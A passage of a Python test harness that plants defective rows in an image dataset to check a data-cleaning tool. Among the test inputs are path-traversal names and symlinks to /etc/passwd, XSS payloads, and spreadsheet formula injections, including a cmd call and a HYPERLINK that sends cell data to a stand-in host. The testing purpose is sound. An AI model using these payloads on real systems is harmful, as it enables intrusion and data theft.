        bed.add(row, make(photo), suffix, detail, ANY if detail == "screenshot of text" else "")


def _with_text(photo: Image.Image) -> bytes:
    text = PngImagePlugin.PngInfo()
    text.add_text("workflow", "y" * 500_000, zip=True)
    return encoded(photo, "PNG", pnginfo=text)


def large_photo(bed: Bed) -> None:
    """What phones of 50 megapixels take."""
    row, photo = bed.fresh()
    bed.add(row, encoded(photo.resize((8192, 6144)), quality=60), ".jpg", "8192 x 6144", ANY)


# Paths.


def missing_file(bed: Bed) -> None:
    row, _ = bed.fresh()
    names = ("gone.jpg", "planted/gone.jpg", "%2e%2e/up.jpg", "..%2fup.jpg", ".../up.jpg", " ../up.jpg", "．．/up.jpg")
    for name in (*names, "<b>gone</b>.jpg", "line\nbreak.jpg", "\x1b[31mred.jpg", "\u202egpj.exe"):
        own = {"image": name, "user": bed.name(), "description": bed.name()}
        bed.add(row | own, None, detail=repr(name), reported="missing_photos", dropped="unreadable_photos")
    (bed.folder / "planted/nowhere.jpg").symlink_to("/nonexistent/photo.jpg")
    (bed.folder / "planted/circle.jpg").symlink_to("circle.jpg")
    (bed.folder / "planted/passwd.jpg").symlink_to("/etc/passwd")
    for name in ("planted/nowhere.jpg", "planted/circle.jpg", "planted/passwd.jpg", "n" * 300 + ".jpg", "a/" * 3000):
        own = {"image": name, "user": bed.name(), "description": bed.name()}
        wanted = "missing_photos|unreadable_photos"
        bed.add(row | own, None, detail=name[:24], reported=wanted, dropped="unreadable_photos")


def unsafe_path(bed: Bed) -> None:
    row, _ = bed.fresh()
    names = ("../up.jpg", "planted/../../up.jpg", "/etc/passwd", "~/up.jpg", "~root/up.jpg", "planted\\up.jpg", "..")
    names += ("..\\..\\up.jpg", "C:\\up.jpg", "file:///etc/passwd", "http://host/up.jpg", "nul\0.jpg", "", "s3://")
    for name in (*names, "planted/..", "data:image/png;base64,x", "S3://bucket/up.jpg", "../up.jpg "):
        own = {"image": name, "user": bed.name(), "description": bed.name()}
        bed.add(row | own, None, detail=repr(name), reported="unusable_values", dropped="unusable_values")


def linked_photo(bed: Bed) -> None:
    """A link out of the folder is how DVC and people place photos: it is followed."""
    row, photo = bed.fresh()
    target = bed.folder.parent / f"{bed.folder.name}-outside.png"
    target.write_bytes(encoded(photo, "PNG"))
    (bed.folder / "planted/link.png").symlink_to(target)
    bed.add(row | {"image": "planted/link.png"}, None, detail="link out of the folder")


# Labels and texts.


def markup(bed: Bed) -> None:
    texts = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<SVG/onload=alert(1)>", "</td><b>bold</b>"]
    texts += ["&#60;script&#62;", "&#x3c;b&#x3e;", "&lt;script&gt;alert(1)&lt;/script&gt;", "javascript:alert(1)"]
    texts += ["JaVaScRiPt:alert(1)", "<!-- comment -->"]
    columns = [LABEL, "description", "listing", "user", "category", "product"]
    for number, text in enumerate(texts):
        row, photo = bed.fresh()
        column = columns[(number + bed.random.randrange(6)) % 6]
        bed.add(
            row | {column: text.replace("/", "|") if column == "category" else text},
            photo,
            ".jpg",
            f"{column}: {text}",
            "unsafe_text",
        )


def odd_characters(bed: Bed) -> None:
    for text in (
        "bell \x07",
        "red \x1b[31m",
        "nul \0",
        "next line \x85",
        "backwards \u202etxt.exe",
        "separator \u2028",
    ):
        row, photo = bed.fresh()
        bed.add(row | {"description": text + bed.name()}, photo, ".jpg", repr(text), "unsafe_text")


def formula(bed: Bed) -> None:
    for text in (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://host/?x="&A1)',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
    ):
        row, photo = bed.fresh()
        column = bed.random.choice(("description", "user", LABEL))
        bed.add(row | {column: text}, photo, ".jpg", f"{column}: {text}", "unsafe_text")


def harmless_text(bed: Bed) -> None:
    texts = ["I <3 this", "- like new, worn twice", "+ free gift", "a < b & c > d", "Größe 38, 裙子, 👗", 'it\'s "new"']
    texts += ["two\nlines\tand a tab", "long " * 20_000, "50 % off = cheap", "e-mail me: (no)"]
    for text in texts:
        row, photo = bed.fresh()
        bed.add(row | {"description": text + bed.name()}, photo, ".jpg", text[:30])


def repeated_text(bed: Bed) -> None:
    variants = (
        ("Bulk.Seller", "Top quality, best price", "same"),
        ("Bulk.Seller", "TOP quality,  best price ", "case and spaces"),
    )
    variants += ((" bulk.seller ", "top\tquality,\nbest\u00a0price", "the user's case and spaces too"),)
    stamp = bed.name()
    row, photo = bed.fresh()
    row |= {"user": "Bulk.Seller", "description": f"Top quality, best price {stamp}", "listing": bed.name()}
    bed.add(row, photo, ".jpg", "the listing that stays", ANY)
    for user, text, detail in variants:
        row, photo = bed.fresh()
        row |= {"user": user, "description": f"{text} {stamp}", "listing": bed.name()}
        bed.add(row, photo, ".jpg", detail, "repeated_text", "repeated_text")


def stray_label(bed: Bed) -> None:
    cases: list[tuple[str, str, str]] = [
        (LABEL, text, "") for text in ("Not sure", "SKIP", " other ", "N/A", "-", "None")
    ]
    cases += [(LABEL, " plain", "plain"), (LABEL, "PLAIN", "plain"), (LABEL, "plain | Plain|", "plain")]
    cases += [("category", " planted / things ", CLASS), ("category", "Planted/Things/Not sure", CLASS)]
    cases += [("category", "PLANTED/THINGS", CLASS)]
    for column, text, expected in cases:
        row, photo = bed.fresh()
        bed.add(row | {column: text}, photo, ".jpg", f"{column}: {text!r}", ANY, becomes={column: expected})


def stray_word(bed: Bed) -> None:
    for column, text, expected in (
        ("verdict", "Authentic ", "authentic"),
        ("verdict", "COUNTERFEIT", "counterfeit"),
        ("verdict", "unknown", ""),
        ("domain", " Shop", "shop"),
        ("split", "TRAIN", "train"),
    ):
        row, photo = bed.fresh()
        bed.add(
            row | {column: text}, photo, ".jpg", f"{column}: {text!r}", "unusable_values", becomes={column: expected}
        )


def unusable_value(bed: Bed) -> None:
    cases = [("domain", "mars"), ("split", "dev"), ("verdict", "fake"), ("verdict", "authentic, probably")]
    cases += [("bbox", text) for text in ("5,0,-20,20", "nan,nan,nan,nan", "1,2,3", "left", "inf,0,1,1", "1e3,0,5,5")]
    cases += [
        ("category", text) for text in ("/Planted", "Planted//Things", "Planted/", " /Planted", "Planted/ /Things")
    ]
    for column, text in cases:
        row, photo = bed.fresh()
        wanted = {"reported": "unusable_values", "dropped": "unusable_values"}
        bed.add(row | {column: text}, photo, ".jpg", f"{column}: {text!r}", **wanted)


def box_outside(bed: Bed) -> None:
    for box in ("0,0,9999,10", "5000,5000,10,10", "0,0,0,10", "10,10,1" + "0" * 320 + ",5"):
        row, photo = bed.fresh()
        width = photo.width
        stays = {"0": f"0,0,{width},10", "1": f"10,10,{width - 10},5"}
        becomes = "" if box in ("5000,5000,10,10", "0,0,0,10") else stays[box[0]]
        bed.add(row | {"bbox": box}, photo, ".jpg", box[:30], "boxes_outside", becomes={"bbox": becomes})


def rare_label(bed: Bed) -> None:
    row, photo = bed.fresh()
    bed.add(row | {LABEL: "one photo only"}, photo, ".jpg", "label", becomes={LABEL: ""})
    row, photo = bed.fresh()
    bed.add(row | {"category": f"{CLASS}/One"}, photo, ".jpg", "leaf", becomes={"category": CLASS})
    row, photo = bed.fresh()
    bed.add(row | {"category": "Alone/One", LABEL: ""}, photo, ".jpg", "the only label", dropped="rare_classes")


def contradiction(bed: Bed) -> None:
    """The same photo with labels that cannot both be right: cleaning keeps one, without them."""
    cases = [
        (LABEL, "plain", "striped", ""),
        ("category", CLASS, "Planted/Others", "Planted"),
        ("verdict", "authentic", "counterfeit", ""),
    ]
    for column, first, second, common in cases:
        row, photo = bed.fresh()
        kept = bed.add(
            row | {column: first}, photo, ".jpg", f"{column}, first", "contradicting_labels", becomes={column: common}
        )
        data = (bed.folder / kept["image"]).read_bytes()
        own = {column: second, "of": kept["image"], "user": bed.name(), "description": bed.name()}
        bed.add(row | own, data, ".jpg", f"{column}, same bytes", "contradicting_labels", "exact_duplicates")
    for column, first, second in ((LABEL, "plain", "striped"), ("verdict", "authentic", "counterfeit")):
        row, photo = bed.fresh()
        kept = bed.add(row | {column: first}, photo, ".png", f"{column}, first", ANY, "|near_duplicates")
        own = {column: second, "of": kept["image"], "user": bed.name(), "description": bed.name()}
        detail, wanted = f"{column}, re-encoded", "contradicting_copies|contradicting_labels"
        bed.add(row | own, encoded(photo, quality=70), ".jpg", detail, wanted, "|near_duplicates")


def leak(bed: Bed) -> None:
    """Two rows of one photo, listing or product that came in two splits."""

    def pair(detail: str, other: bytes | None, dropped: str, shared: Row | None = None) -> None:
        row, photo = bed.fresh()
        name = bed.name()
        first = bed.add(
            row | {"split": "train"} | (shared or {}), photo, ".png", detail, "split_leakage", together=name
        )
        if other is None:
            again, photo = bed.fresh()
            data = encoded(photo)
        else:
            again, data = row | ({"of": first["image"]} if dropped else {}), CHANGES[detail](photo)
        own = {"split": bed.random.choice(("validation", "test")), "user": bed.name(), "description": bed.name()}
        suffix = ".png" if detail == "exact" else ".jpg"
        bed.add(again | own | (shared or {}), data, suffix, detail, "split_leakage", dropped, name)

    pair("exact", b"", "exact_duplicates")
    for detail in ("re-encoded", "cropped", "resized"):
        pair(detail, b"", "near_duplicates")
    for detail in ("mirrored", "mirrored and cropped", "turned"):
        pair(detail, b"", "")
    pair("same listing", None, "", {"listing": bed.name()})
    pair("same product", None, "", {"product": bed.name()})


CHANGES: dict[str, Callable[[Image.Image], bytes]] = {
    "exact": lambda photo: encoded(photo, "PNG"),
    "re-encoded": lambda photo: encoded(photo, quality=50),
    "cropped": lambda photo: encoded(cropped(photo, 0.01, 0.02, 0.015, 0.01)),
    "resized": lambda photo: encoded(scaled(photo, 0.7)),
    "mirrored": lambda photo: encoded(photo.transpose(Image.Transpose.FLIP_LEFT_RIGHT)),
    "mirrored and cropped": lambda photo: encoded(
        cropped(photo.transpose(Image.Transpose.FLIP_LEFT_RIGHT), 0.01, 0.01, 0.02, 0)
    ),
    "turned": lambda photo: encoded(photo.transpose(Image.Transpose.ROTATE_90)),
}


def views(bed: Bed) -> None:
    """Twelve listings of four views: most are whole, one each lacks a view, repeats one, is out of order, or cheats."""
    names = ["tag", "stamp", "insole", "box"]
    faults = {2: "missing_views", 5: "repeated_views", 7: "disordered_views", 9: "one_photo_two_views"}
    for number in range(12):
        listing, rule, shown, at = bed.name(), faults.get(number, ""), list(names), 0
        if rule == "missing_views":
            shown.remove(bed.random.choice(names))
        elif rule == "repeated_views":
            at = bed.random.randrange(4)
            shown.append(names[at])
        elif rule == "disordered_views":
            shown.insert(bed.random.randrange(2), shown.pop(bed.random.randrange(2, 4)))
        for place, view in enumerate(shown):
            row, photo = bed.fresh()
            row |= {"listing": listing, "view": view}
            if rule == "one_photo_two_views" and place == 3:
                data, row["of"] = (bed.folder / bed.rows[-1]["image"]).read_bytes(), bed.rows[-1]["image"]
                bed.add(row, data, ".jpg", rule, "exact_duplicates", "exact_duplicates", listing)
            else:  # what is listed is where the listing or the photo first stands
                at = 2 if rule == "one_photo_two_views" else at
                wanted = rule if place == at else ""
                bed.add(row, photo, ".jpg", f"{view}, {rule or 'whole'}", wanted, together=listing)


KINDS: dict[str, Callable[[Bed], None]] = {
    make.__name__: make
    for make in (
        exact_copy, reencoded_copy, resized_copy, slightly_cropped_copy, cropped_copy, lying_copy, mirrored_copy,
        completing_copy, copies_that_stay, colours_that_stay, truncated, wrong_extension, no_photo, tiny, bomb, endless, blank, grey,
        unusual, adobe_cmyk, odd_exif, fine_file, large_photo, missing_file, unsafe_path, linked_photo, markup,
        odd_characters, formula, harmless_text, repeated_text, stray_label, stray_word, unusable_value, box_outside,
        rare_label, contradiction, leak, views,
    )
}  # fmt: skip


def main(arguments: list[str]) -> None:
    """Prints, for a data set, how many of each kind were found."""
    parser = argparse.ArgumentParser()
    parser.add_argument("dataset")
    parser.add_argument("--seeds", type=int, default=3)
    parser.add_argument("--first-seed", type=int, default=0)
    parser.add_argument("--rows", type=int, default=0, help="real rows that stay; 0: all but those the plants take")
    parser.add_argument("--kinds", nargs="*")
    chosen = parser.parse_args(arguments)
    root = Path(os.environ["VITRINE_DATASETS"]) / chosen.dataset
    results, lost = [], []
    with tempfile.TemporaryDirectory() as folder:
        ingest(root, Path(folder) / "whole", chosen.dataset)
        catalog = read_catalog(Path(folder) / "whole")
        looks = thumbnails(catalog)
        for seed in range(chosen.first_seed, chosen.first_seed + chosen.seeds):
            work = Path(folder) / str(seed)
            planted = plant(catalog, work / "planted", seed, chosen.kinds, chosen.rows or len(catalog) - 700, looks)
            outcome = examine(planted, work)
            results.append(outcome.truth.assign(seed=seed))
            lost.append(outcome.lost.assign(seed=seed))
            print(f"seed {seed}: {len(planted.real)} real rows, {len(planted.truth)} planted", file=sys.stderr)
    account = pd.concat(results)
    passed = account[["found", "right", "labels", "kept_together"]].all(axis=1)
    table = account.assign(ok=passed).groupby("kind", sort=False)[["found", "right", "labels", "kept_together", "ok"]]
    print(pd.concat([table.size().rename("planted"), table.sum()], axis=1).to_markdown())
    print("\nReal rows lost:", len(pd.concat(lost)))
    for line in pd.concat(lost).to_dict("records"):
        print("  ", line)
    wrong = account[~passed]
    for line in wrong[["seed", "kind", "detail", "hits", "drop", "reported", "dropped", "image"]].to_dict("records"):
        print("  ", line)


if __name__ == "__main__":
    main(sys.argv[1:])
